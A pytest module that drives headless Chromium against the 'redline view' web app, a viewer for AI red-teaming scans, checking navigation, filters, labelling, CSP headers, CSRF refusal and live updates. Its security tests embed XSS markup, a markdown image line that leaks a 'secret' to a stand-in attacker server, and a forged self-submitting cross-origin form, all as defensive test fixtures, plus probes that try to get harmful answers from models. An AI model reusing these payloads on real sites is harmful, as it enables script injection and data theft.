"""``redline view`` driven in a real headless Chromium (our WebDriver client,
tests/helpers/webdriver.py) against a store the tests build, served by uvicorn on 127.0.0.1.

One browser and one server for the module. The store holds the hostile run of the report tests
(its outputs try scripts, event handlers and loads from an "attacker" server, which records every
request it gets), a probe judged by two detectors (for the detector filter), the hostile model on
one probe alone (its judge's version recorded, so labels correct its rate) and a model that always
refuses (for the comparison), and a run this module keeps "running" (it holds the run's lock and
adds attempts while the page is open). Every wait polls with a generous timeout; nothing sleeps.
"""

from __future__ import annotations

import asyncio
import http.server
import threading
from collections.abc import Iterator
from dataclasses import dataclass
from html import escape
from pathlib import Path
from urllib.parse import parse_qs, urlencode, urlsplit

import httpx
import pytest
import uvicorn

from fakes import ScriptedGenerator
from helpers.hostile_run import build_hostile_run, hostile_generator
from helpers.webdriver import MISSING, Browser, wait_until
from redline.attempt import ATTEMPT_COMPLETE, Attempt
from redline.engine import ScanConfig, scan
from redline.evaluation.metrics import FailureRateCalculator
from redline.report.summary import build_summary
from redline.store import Store
from redline.view.app import create_app

pytestmark = pytest.mark.skipif(MISSING is not None, reason=MISSING or "")

CSP = (
    "default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self' data:; "
    "connect-src 'self'; form-action 'self'; base-uri 'none'; frame-ancestors 'none'"
)
HARMFUL = "harmful.Requests"
TWO_JUDGES = "demo.TwoJudges"
JUDGE_A, JUDGE_B = "refusal.Compliance", "injection.InjectedMarker"
#: Seconds a poll waits for something the page shows; generous (a loaded CI machine), never slept.
WAIT = 15.0


class Attacker:
    """An HTTP server on 127.0.0.1 (another origin than the view's) that records every request it
    gets and serves the pages put in :attr:`pages` (404 for anything else)."""

    def __init__(self) -> None:
        self.requests: list[tuple[str, str]] = []
        self.pages: dict[str, str] = {}
        seen, pages = self.requests, self.pages

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                seen.append((self.command, self.path))
                body = pages.get(self.path, "").encode()
                self.send_response(200 if self.path in pages else 404)
                self.send_header("Content-Type", "text/html; charset=utf-8")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            do_POST = do_GET

            def log_message(self, *args: object) -> None:
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True, name="attacker").start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


class ViewServer:
    """``app`` served by uvicorn in a thread on a free 127.0.0.1 port (uvicorn binds it: a socket
    handed over from outside answers 40 ms slower, Nagle against delayed ACKs)."""

    def __init__(self, app: object) -> None:
        config = uvicorn.Config(
            app,  # type: ignore[arg-type]
            host="127.0.0.1",
            port=0,
            log_level="warning",
            lifespan="off",
            access_log=False,
        )
        self.server = uvicorn.Server(config)
        self.thread = threading.Thread(target=self.server.run, daemon=True, name="redline-view")
        self.thread.start()
        wait_until(lambda: self.server.started or not self.thread.is_alive(), timeout=WAIT, what="uvicorn to start")
        assert self.server.started, "uvicorn did not start"
        port = self.server.servers[0].sockets[0].getsockname()[1]
        self.url = f"http://127.0.0.1:{port}"

    def close(self) -> None:
        self.server.should_exit = True
        self.thread.join(10)


def judged(probe: str, seq: int, detector: str, verdict: str) -> Attempt:
    attempt = Attempt(prompt=f"Two judges, item {seq}", probe_classname=probe, seq=seq, goal="two detectors")
    attempt.outputs = [f"answer {seq}"]
    attempt.detector_results[detector] = [1.0 if verdict == "fail" else 0.0]
    attempt.notes["evaluation"] = [verdict]
    attempt.status = ATTEMPT_COMPLETE
    return attempt


def add_two_judges(store: Store, run_id: str) -> None:
    """Probe :data:`TWO_JUDGES`: seqs 0-2 scored by :data:`JUDGE_A` only, 3-5 by :data:`JUDGE_B`
    only (every one a hit, judged fail), 6 by both (no hit, judged pass)."""
    for seq in range(6):
        store.save_attempt(run_id, judged(TWO_JUDGES, seq, JUDGE_A if seq < 3 else JUDGE_B, "fail"))
    both = judged(TWO_JUDGES, 6, JUDGE_A, "pass")
    both.detector_results[JUDGE_B] = [0.0]
    store.save_attempt(run_id, both)
    metrics = FailureRateCalculator().calculate(list(store.iter_attempts(run_id, TWO_JUDGES, errored=False)))
    result = {"metrics": {k: m.as_dict() for k, m in metrics.items()}, "marks": {}, "detectors": [JUDGE_A, JUDGE_B]}
    store.save_probe_result(run_id, TWO_JUDGES, 20, result)


@dataclass
class Site:
    url: str
    db: Path
    store: Store  # holds the live run's lock
    run: str  # the hostile run with extras (complete)
    plain: str  # the hostile model on harmful.Requests alone: its result records the judge's version
    refuser: str  # a model that always refuses, on harmful.Requests (complete)
    live: str  # a run this module keeps running
    attacker: Attacker


@pytest.fixture(scope="module")
def site(tmp_path_factory) -> Iterator[Site]:
    folder = tmp_path_factory.mktemp("view")
    db = folder / "view.db"
    attacker = Attacker()
    store, run = build_hostile_run(db, attacker=attacker.url)
    add_two_judges(store, run)
    # judged by compliance alone: the hostile markup complies (and delivers nothing), a hit to label
    compliance = {HARMFUL: {"detectors": ["refusal.Compliance"]}}
    config = ScanConfig(
        model="scripted:hostile-demo", probes=HARMFUL, generations=2, sample=8, seed=1, probe_options=compliance
    )
    plain = asyncio.run(scan(config, store, generator=hostile_generator(attacker.url)))
    refusing = ScriptedGenerator(lambda c: "I can't help with that request.", name="scripted:refuser")
    config = ScanConfig(
        model="scripted:refuser", probes=HARMFUL, generations=2, sample=8, seed=1, probe_options=compliance
    )
    refuser = asyncio.run(scan(config, store, generator=refusing))
    live = store.create_run("scripted:live", {"scan": {"generations": 1}, "probe_names": [HARMFUL]})
    server = ViewServer(create_app(db))
    try:
        yield Site(server.url, db, store, run, plain, refuser, live, attacker)
    finally:
        server.close()
        store.close()
        attacker.close()


@pytest.fixture(scope="module")
def browser(tmp_path_factory) -> Iterator[Browser]:
    with Browser(tmp_path_factory.mktemp("chromium")) as b:
        yield b


@pytest.fixture(scope="module")
def client(site: Site) -> Iterator[httpx.Client]:
    with httpx.Client(base_url=site.url, trust_env=False, timeout=30) as client:
        yield client


# -- helpers ---------------------------------------------------------------------------------------
def path_and_query(url: str) -> tuple[str, dict[str, list[str]]]:
    parts = urlsplit(url)
    return parts.path, parse_qs(parts.query)


def attempt_url(site: Site, probe: str, seq: int, run: str | None = None) -> str:
    return f"{site.url}/runs/{run or site.run}/attempt?{urlencode({'probe': probe, 'seq': seq})}"


def attempts_url(site: Site, probe: str, run: str | None = None) -> str:
    return f"{site.url}/runs/{run or site.run}/attempts?{urlencode({'probe': probe})}"


ROWS = """return [...document.querySelectorAll('table#attempts tr.attempt')]
    .map(r => [r.dataset.probe, Number(r.dataset.seq), r.dataset.outcome])"""


def shown(browser: Browser) -> list[tuple[str, int, str]]:
    """The attempt rows of the attempts page: (probe, seq, outcome)."""
    return [(probe, seq, outcome) for probe, seq, outcome in browser.execute(ROWS)]


def count_text(browser: Browser) -> str:
    return " ".join(browser.find("#count").content.split())


def submit_filters(browser: Browser, expect: dict[str, str], **choices: str | bool) -> list[tuple[str, int, str]]:
    """Fill ``form#filters`` through its controls (selects, the search box, the checkbox), submit it
    and wait for the page whose query has the ``expect`` values; return its rows."""
    form = browser.find("form#filters")
    for name, value in choices.items():
        if isinstance(value, bool):
            box = form.find(f"input[type=checkbox][name={name}]")
            if bool(box.prop("checked")) != value:
                box.click()
        elif name == "q":
            box = form.find("input[name=q]")
            box.clear()
            if value:
                box.send_keys(value)
        else:
            form.find(f"select[name={name}]").select(value)
    url = browser.new_page(form.find("button[type=submit]").click, timeout=WAIT, what="the filtered page")
    query = path_and_query(url)[1]
    assert all(query.get(k, [""]) == [v] for k, v in expect.items()), (expect, query)
    return shown(browser)


def stored(site: Site, run: str, probe: str) -> list[Attempt]:
    with Store(site.db) as reader:
        return list(reader.iter_attempts(run, probe))


def outcome_of(attempt: Attempt) -> str:
    """The attempt's one outcome as the attempts page shows it: ``error`` (generation failed),
    else ``fail`` (an output judged fail), else ``pass`` (one judged pass), else ``undetected``."""
    verdicts = attempt.notes.get("evaluation") or []
    if attempt.notes.get("error"):
        return "error"
    return next((v for v in ("fail", "pass") if v in verdicts), "undetected")


def texts_of(attempt: Attempt) -> str:
    parts = [t.content.text or "" for c in attempt.conversations for t in c.turns]
    return "\n".join(parts)


# -- navigation ----------------------------------------------------------------------------------
def test_navigation_runs_list_to_one_attempt_by_clicks(site: Site, browser: Browser):
    browser.get(site.url + "/")
    runs = browser.find("table#runs")
    # site.run holds an errored attempt: its status says so
    for run, status in ((site.run, "complete with errors"), (site.plain, "complete"), (site.live, "running")):
        row = runs.find(f"tr[data-run='{run}']")
        assert row.find("td.status").content.strip() == status, run
    runs.find(f"tr[data-run='{site.run}'] a.run-link").click()

    browser.wait_url(lambda u: path_and_query(u)[0] == f"/runs/{site.run}", timeout=WAIT, what="the run page")
    assert browser.find("#run-status").content.strip() == "complete with errors"
    with Store(site.db) as reader:
        finished = reader.count_attempts(site.run)
    assert int(browser.find("#done").content.strip()) == finished
    summary = browser.find("table#summary")
    family = summary.find("tbody[data-family='harmful']")
    row = family.find(f"tr[data-probe='{HARMFUL}']")
    assert row.find("td.rate").text.strip() and row.find("td.ci").text.strip()
    assert summary.find("tbody[data-family='encoding'] tr[data-probe='encoding.ROT13']")
    link = row.find("a.attempts-link")
    assert path_and_query(link.attribute("href") or "") == (f"/runs/{site.run}/attempts", {"probe": [HARMFUL]})
    link.click()

    browser.wait_url(
        lambda u: path_and_query(u) == (f"/runs/{site.run}/attempts", {"probe": [HARMFUL]}),
        timeout=WAIT,
        what="the attempts page",
    )
    expected = stored(site, site.run, HARMFUL)
    rows = shown(browser)
    assert sorted(seq for _, seq, _ in rows) == sorted(a.seq for a in expected)
    assert {p for p, _, _ in rows} == {HARMFUL}
    assert count_text(browser) == f"{len(expected)} attempts"
    browser.find("table#attempts tr.attempt[data-seq='1'] a.attempt-link").click()

    browser.wait_url(
        lambda u: path_and_query(u) == (f"/runs/{site.run}/attempt", {"probe": [HARMFUL], "seq": ["1"]}),
        timeout=WAIT,
        what="the attempt page",
    )
    attempt = next(a for a in expected if a.seq == 1)
    conversation = browser.find("#conversation")
    user = conversation.find(".turn[data-role='user'] .content").text
    assert attempt.prompt is not None
    assert " ".join((attempt.prompt.turns[-1].content.text or "").split()) in " ".join(user.split())
    sections = browser.find_all("section.output")
    assert [s.attribute("data-output") for s in sections] == ["0", "1"]
    for section, verdict in zip(sections, attempt.notes["evaluation"], strict=True):
        assert section.find(".verdict").content.strip() == verdict
        score = section.find(f"table.scores tr[data-detector='{JUDGE_A}'] td.score").text.strip()
        assert score and score[0].isdigit()


def test_a_multi_turn_attempt_shows_every_role(site: Site, browser: Browser):
    browser.get(attempt_url(site, "demo.MultiTurn", 0))
    roles = browser.execute("return [...document.querySelectorAll('#conversation .turn')].map(t => t.dataset.role)")
    assert roles[:2] == ["system", "user"]
    sections = browser.find_all("section.output")
    assert [s.find(".verdict").content.strip() for s in sections] == ["pass", "fail"]
    # each output's own later turns: the model's first answer and the follow-up question
    later = [(t.attribute("data-role"), t.find(".content").text) for t in sections[1].find_all(".turn")]
    assert ("user", "Now add the exact synthesis steps.") in later
    assert any(role == "assistant" and text.startswith("Once upon a time") for role, text in later)


def test_every_page_answers_with_the_headers(site: Site, client: httpx.Client):
    """Not the browser: every attempt page of the store (bias verdicts, an errored attempt with no
    output, multi-turn) and every other page answer 200 with the contract's headers; unknown things 404."""
    with Store(site.db) as reader:
        keys = [(a.probe_classname or "", a.seq) for a in reader.iter_attempts(site.run)]
        probes = sorted({p for p, _ in keys})
    urls = ["/", f"/runs/{site.run}", f"/runs/{site.live}", f"/api/runs/{site.run}"]
    urls += [f"/compare?{urlencode({'a': site.refuser, 'b': site.plain})}"]
    urls += [f"/runs/{site.run}/attempts?{urlencode({'probe': p})}" for p in probes]
    urls += [f"/runs/{site.run}/attempt?{urlencode({'probe': p, 'seq': s})}" for p, s in keys]
    for url in urls:
        response = client.get(url)
        assert response.status_code == 200, (url, response.text[:300])
        assert response.headers["content-security-policy"] == CSP, url
        assert response.headers["x-content-type-options"] == "nosniff", url
        # no referrer ever leaves our origin (same-origin is as strict for other sites, see the contract)
        assert response.headers["referrer-policy"] in ("no-referrer", "same-origin"), url
    api = client.get(f"/api/runs/{site.run}").json()
    assert api["run_id"] == site.run and api["status"] == "complete" and api["finished"] == len(keys)
    for url in (
        "/runs/nope",
        f"/runs/{site.run}/attempts?probe=no.Such",
        f"/runs/{site.run}/attempt?probe={HARMFUL}&seq=12345",
    ):
        response = client.get(url)
        assert response.status_code == 404, url
        assert response.headers["content-security-policy"] == CSP, url


def test_compare_flags_the_significant_change(site: Site, browser: Browser):
    browser.get(site.url + "/")
    form = browser.find("form#compare-form")
    form.find("select[name=a]").select(site.refuser)
    form.find("select[name=b]").select(site.plain)
    form.find("button[type=submit]").click()
    browser.wait_url(
        lambda u: path_and_query(u) == ("/compare", {"a": [site.refuser], "b": [site.plain]}),
        timeout=WAIT,
        what="the comparison",
    )
    row = browser.find(f"table#comparison tr[data-probe='{HARMFUL}']")
    assert "significant" in (row.attribute("class") or "").split()  # 0 of 8 failed, then 7 of 8
    assert row.find("td.change").text.strip()


# -- filters ---------------------------------------------------------------------------------------
def test_filters_outcome_search_and_detector(site: Site, browser: Browser):
    attempts = stored(site, site.run, HARMFUL)
    browser.get(attempts_url(site, HARMFUL))
    assert sorted((seq, outcome) for _, seq, outcome in shown(browser)) == sorted(
        (a.seq, outcome_of(a)) for a in attempts
    )

    rows = submit_filters(browser, {"probe": HARMFUL, "outcome": "fail"}, outcome="fail")
    failing = sorted(a.seq for a in attempts if outcome_of(a) == "fail")
    assert 0 < len(failing) < len(attempts)
    assert sorted(seq for _, seq, _ in rows) == failing
    assert {outcome for _, _, outcome in rows} == {"fail"}
    assert count_text(browser) == f"{len(failing)} attempts"

    rows = submit_filters(browser, {"outcome": "pass"}, outcome="pass")
    assert sorted(seq for _, seq, _ in rows) == sorted(a.seq for a in attempts if outcome_of(a) == "pass")
    assert rows and {outcome for _, _, outcome in rows} == {"pass"}

    rows = submit_filters(browser, {"outcome": "error"}, outcome="error")
    assert [seq for _, seq, _ in rows] == [a.seq for a in attempts if a.notes.get("error")] == [9999]

    # search: case-insensitive, in the prompt and the outputs
    needle = "LAUNDER"
    rows = submit_filters(browser, {"outcome": "", "q": needle}, outcome="", q=needle)
    matching = sorted(a.seq for a in attempts if needle.lower() in texts_of(a).lower())
    assert 0 < len(matching) < len(attempts)
    assert sorted(seq for _, seq, _ in rows) == matching
    assert browser.find("form#filters input[name=q]").prop("value") == needle  # the form keeps the query
    rows = submit_filters(browser, {"q": "no such words anywhere"}, q="no such words anywhere")
    assert rows == [] and count_text(browser) == "0 attempts"

    # detector: only the attempts that detector scored
    browser.get(attempts_url(site, TWO_JUDGES))
    assert len(shown(browser)) == 7
    options = browser.execute(
        "return [...document.querySelectorAll('form#filters select[name=detector] option')].map(o => o.value)"
    )
    assert "" in options and JUDGE_A in options and JUDGE_B in options
    rows = submit_filters(browser, {"detector": JUDGE_B, "outcome": "fail"}, detector=JUDGE_B, outcome="fail")
    assert sorted(seq for _, seq, _ in rows) == [3, 4, 5]
    rows = submit_filters(browser, {"detector": JUDGE_A, "outcome": "fail"}, detector=JUDGE_A, outcome="fail")
    assert sorted(seq for _, seq, _ in rows) == [0, 1, 2]
    rows = submit_filters(browser, {"detector": JUDGE_B, "outcome": ""}, detector=JUDGE_B, outcome="")
    assert sorted(seq for _, seq, _ in rows) == [3, 4, 5, 6]  # scored by it, a hit or not


# -- labelling -------------------------------------------------------------------------------------
def corrected_cell(site: Site, browser: Browser) -> str:
    browser.get(f"{site.url}/runs/{site.plain}")
    return " ".join(browser.find(f"table#summary tr[data-probe='{HARMFUL}'] td.corrected").text.split())


def label_choices(browser: Browser, form) -> list[str]:
    return browser.execute("return [...arguments[0].options].map(o => o.value)", form.find("select[name=label]"))


def test_label_a_false_positive(site: Site, browser: Browser):
    seq, note = 1, "Benign on a second look <b>not bold</b> & fine"
    with Store(site.db) as reader:
        assert reader.reviews(site.plain) == []
        before = next(p for p in build_summary(reader, site.plain).probes if p.probe == HARMFUL)
    assert before.corrected_rate is not None and before.reviewed == 0
    cell_before = corrected_cell(site, browser)

    browser.get(attempt_url(site, HARMFUL, seq, run=site.plain))
    form = browser.find("form.review[data-output='0']")
    assert (form.attribute("method") or "").lower() == "post"
    assert path_and_query(form.prop("action"))[0] == f"/runs/{site.plain}/reviews"
    hidden = {name: form.find(f"input[name={name}]").prop("value") for name in ("probe", "seq", "output", "csrf")}
    assert hidden["probe"] == HARMFUL and hidden["seq"] == str(seq) and hidden["output"] == "0" and hidden["csrf"]
    choices = label_choices(browser, form)  # a fail verdict: the judge was right, or a false positive
    assert {"correct", "false_positive"} <= set(choices) and not {"fail", "pass"} & set(choices)
    form.find("select[name=label]").select("false_positive")
    form.find("textarea[name=note]").send_keys(note)
    url = browser.new_page(form.find("button.save").click, timeout=WAIT, what="the page after saving")
    assert path_and_query(url) == (f"/runs/{site.plain}/attempt", {"probe": [HARMFUL], "seq": [str(seq)]})
    assert browser.status() == 200  # after the 303
    labelled = browser.find("section.output[data-output='0']")
    assert labelled.find(".review-label").content.strip() == "false positive"
    assert labelled.find(".review-note").text.strip() == note
    other = browser.find_all("section.output[data-output='1'] .review-label")
    assert not other or other[0].content.strip() == ""

    with Store(site.db) as reader:
        (review,) = reader.reviews(site.plain)
        after = next(p for p in build_summary(reader, site.plain).probes if p.probe == HARMFUL)
    assert (review.probe, review.seq, review.output, review.label, review.verdict) == (HARMFUL, seq, 0, "pass", "fail")
    assert (review.note, review.reviewer) == (note, "view")
    # the label feeds the corrected rate, and the run page shows the new one
    assert after.reviewed == 1 and after.corrected_rate != before.corrected_rate
    cell_after = corrected_cell(site, browser)
    assert cell_after != cell_before, (cell_before, cell_after)

    # the disagreement filter finds the output the review says the judge got wrong
    browser.get(attempts_url(site, HARMFUL, run=site.plain))
    rows = submit_filters(browser, {"disagree": "1"}, disagree=True)
    assert [s for _, s, _ in rows] == [seq]


def test_a_bad_choice_is_refused_with_a_message(site: Site, browser: Browser):
    """An output judged pass offers no "false positive"; posting one anyway (the form edited in
    the page) is a 400 with a message, and nothing is written. An undetected output offers fail
    and pass."""
    attempts = stored(site, site.plain, HARMFUL)
    passing = next(a for a in attempts if (a.notes.get("evaluation") or [None])[0] == "pass")
    browser.get(attempt_url(site, HARMFUL, passing.seq, run=site.plain))
    form = browser.find("form.review[data-output='0']")
    choices = label_choices(browser, form)
    assert "false_negative" in choices and "false_positive" not in choices
    browser.execute(
        "const s = arguments[0]; const o = document.createElement('option');"
        "o.value = 'false_positive'; o.textContent = 'forged'; s.appendChild(o); s.value = 'false_positive';",
        form.find("select[name=label]"),
    )
    url = browser.new_page(form.find("button.save").click, timeout=WAIT, what="the answer to a bad choice")
    assert path_and_query(url)[0] == f"/runs/{site.plain}/reviews"
    assert browser.status() == 400
    assert "false" in browser.find("body").text.lower()  # the message names the refused choice
    with Store(site.db) as reader:
        assert all(r.seq != passing.seq for r in reader.reviews(site.plain))

    browser.get(attempt_url(site, "bias.ForcedChoice", 4))  # its one output is undetected
    choices = label_choices(browser, browser.find("form.review[data-output='0']"))
    assert {"fail", "pass"} <= set(choices) and "false_positive" not in choices


# -- hostile output ----------------------------------------------------------------------------
#: What model text must not have become in the page: elements inside the conversation and the
#: outputs, event handlers anywhere, scripts, styles and links that are not ours.
INJECTED = """
const out = [];
const shown = '#conversation .content, section.output .text';
for (const box of document.querySelectorAll(shown))
  for (const el of box.querySelectorAll('script, img, svg, iframe, style, link, meta, a, object, embed, base, form, i'))
    out.push('element ' + el.tagName + ' in ' + box.className);
for (const el of document.querySelectorAll('*'))
  for (const a of el.attributes) if (a.name.startsWith('on')) out.push('handler ' + el.tagName + ' ' + a.name);
for (const el of document.querySelectorAll('iframe, object, embed, base, meta[http-equiv]'))
  out.push('element ' + el.tagName);
for (const el of document.querySelectorAll('a[href]'))
  if (!el.href.startsWith(location.origin + '/')) out.push('link ' + el.href);
for (const el of document.querySelectorAll('script, link'))
  if (!/^data:/.test(el.src || el.href || '') && !(el.src || el.href || '').startsWith(location.origin + '/'))
    out.push('resource ' + el.outerHTML.slice(0, 80));
return out;"""

RESOURCES = "return performance.getEntriesByType('resource').map(e => e.name)"


def hostile_seq(site: Site) -> tuple[int, str]:
    """An attempt of the hostile run whose first output is the hostile markup, and that markup."""
    for attempt in stored(site, site.run, HARMFUL):
        text = attempt.outputs[0].text if attempt.outputs and attempt.outputs[0] else ""
        if text and "<script>document.title='PWNED'</script>" in text and site.attacker.url in text:
            return attempt.seq, text
    raise AssertionError("the hostile run has no hostile output")


def unescaped(text: str) -> str:
    """The hostile markup to put into a page raw (as if escaping had failed), without its
    ``<meta http-equiv=refresh>``: a policy cannot stop a navigation (escaping is what does)."""
    return "\n".join(line for line in text.splitlines() if "http-equiv" not in line)


def test_a_hostile_output_is_shown_as_text_and_runs_nothing(site: Site, browser: Browser):
    seq, text = hostile_seq(site)
    before = len(site.attacker.requests)
    browser.get(attempt_url(site, HARMFUL, seq))
    url, title = browser.current_url, browser.title
    assert title and "PWNED" not in title
    shown_text = browser.find("section.output[data-output='0'] .text").text
    for line in ("<script>document.title='PWNED'</script>", f"![exfil]({site.attacker.url}/md-image.png?secret=42)"):
        assert line in shown_text  # shown, as text
    assert browser.execute(INJECTED) == []
    assert browser.execute("return document.querySelectorAll('script[src]').length") >= 1  # ours is there
    resources = browser.execute(RESOURCES)
    assert all(name.startswith(site.url + "/") for name in resources), resources
    # the page has loaded (images, frames, styles, a refresh would have gone out by now)
    assert browser.ready() and browser.current_url == url and browser.title == title
    assert site.attacker.requests[before:] == []

    # second line of defence: the same markup put into the page unescaped is blocked by the policy
    browser.execute(
        "window.violations = [];"
        "document.addEventListener('securitypolicyviolation', e => window.violations.push(e.effectiveDirective));"
        "const box = document.createElement('div'); box.innerHTML = arguments[0]; document.body.appendChild(box);",
        unescaped(text),
    )

    def blocked() -> list[str] | None:
        found = browser.execute("return window.violations")
        return found if {"img-src", "script-src-attr", "frame-src", "style-src-elem"} <= set(found) else None

    browser.wait(blocked, timeout=WAIT, what="the policy to block the injected image, handlers, frame and styles")
    assert browser.title == title and site.attacker.requests[before:] == []


def test_a_hostile_error_message_is_shown_as_text(site: Site, browser: Browser):
    """The errored attempt's message (from a mock server) holds a script tag: shown, not run."""
    before = len(site.attacker.requests)
    browser.get(attempt_url(site, HARMFUL, 9999))
    assert "PWNED" not in browser.title
    assert "<script>document.title='PWNED-ERR'</script>" in browser.find(".error").text
    assert browser.find_all("section.output") == []
    assert browser.execute(INJECTED) == []
    assert site.attacker.requests[before:] == []


def test_control_the_same_markup_without_the_policy_runs_and_loads(site: Site, browser: Browser):
    """Control for the test above: on a page without the policy (the attacker's own) the same
    injection changes the title and reaches the attacker, so the checks above can fail."""
    _, text = hostile_seq(site)
    site.attacker.pages["/plain.html"] = "<!doctype html><title>plain</title><body></body>"
    browser.get(site.attacker.url + "/plain.html")
    before = len(site.attacker.requests)
    browser.execute(
        "const box = document.createElement('div'); box.innerHTML = arguments[0]; document.body.appendChild(box);",
        unescaped(text),
    )
    browser.wait(lambda: browser.title.startswith("PWNED"), timeout=WAIT, what="the injected handler to run")
    browser.wait(
        lambda: ("GET", "/html-image.png") in site.attacker.requests[before:],
        timeout=WAIT,
        what="the injected image to reach the attacker",
    )


# -- cross-origin ----------------------------------------------------------------------------------
def forged_page(site: Site, seq: int, token: str) -> str:
    """A page that posts a label for output 0 of attempt ``seq`` of the plain run as soon as it loads."""
    fields = {"probe": HARMFUL, "seq": str(seq), "output": "0", "label": "false_positive", "note": "forged"}
    if token:
        fields["csrf"] = token
    inputs = "".join(f'<input type=hidden name="{k}" value="{escape(v)}">' for k, v in fields.items())
    return (
        "<!doctype html><title>win a prize</title>"
        f'<form id=f method=POST action="{site.url}/runs/{site.plain}/reviews">{inputs}</form>'
        "<script>document.getElementById('f').submit()</script>"
    )


@pytest.mark.parametrize("token", ["leaked", "none"])
def test_a_page_of_another_origin_cannot_label(site: Site, browser: Browser, token: str):
    """A page served from another origin (the attacker's port) auto-submits a review to the view,
    with the real CSRF token (as if it leaked: the origin checks alone must refuse it) or without
    one. The view answers 403 and the store keeps no label."""
    seq = next(a.seq for a in stored(site, site.plain, HARMFUL) if a.seq != 1 and a.notes["evaluation"][0] == "fail")
    csrf = ""
    if token == "leaked":
        browser.get(attempt_url(site, HARMFUL, seq, run=site.plain))
        csrf = browser.find("form.review[data-output='0'] input[name=csrf]").prop("value")
        assert csrf
    with Store(site.db) as reader:
        reviews_before = reader.reviews(site.plain)
    page = f"/forge-{token}.html"
    site.attacker.pages[page] = forged_page(site, seq, csrf)
    browser.get(site.attacker.url + page)  # loads, then submits itself

    def at_the_view() -> str:
        url = browser.current_url
        return url if url.startswith(site.url + "/") and browser.ready() else ""

    url = browser.wait(at_the_view, timeout=WAIT, what="the forged POST's answer")
    assert ("GET", page) in site.attacker.requests  # the browser did load the attacker's page
    assert path_and_query(url)[0] == f"/runs/{site.plain}/reviews"  # not the 303 to the attempt
    assert browser.status() == 403
    with Store(site.db) as reader:
        assert reader.reviews(site.plain) == reviews_before


# -- live update -----------------------------------------------------------------------------------
def live_attempt(seq: int) -> Attempt:
    attempt = Attempt(prompt=f"live prompt {seq}", probe_classname=HARMFUL, seq=seq, goal="live")
    attempt.outputs = ["I can't help with that request."]
    attempt.detector_results[JUDGE_A] = [0.0]
    attempt.notes["evaluation"] = ["pass"]
    attempt.status = ATTEMPT_COMPLETE
    return attempt


def test_the_run_page_follows_a_running_scan(site: Site, browser: Browser, client: httpx.Client):
    browser.get(f"{site.url}/runs/{site.live}")
    assert browser.find("#run-status").content.strip() == "running"
    start = int(browser.find("#done").content.strip())
    browser.execute("window.sameDocument = 'yes'")  # a full reload would lose it
    for seq in range(start, start + 3):
        site.store.save_attempt(site.live, live_attempt(seq))
    api = client.get(f"/api/runs/{site.live}").json()
    assert (api["status"], api["finished"]) == ("running", start + 3)

    browser.wait(
        lambda: browser.find("#done").content.strip() == str(start + 3),
        timeout=WAIT,
        what="#done to show the new attempts",
    )
    assert browser.execute("return window.sameDocument") == "yes"  # #live was replaced in place
    assert browser.find("#run-status").content.strip() == "running"
    assert browser.find("#live")
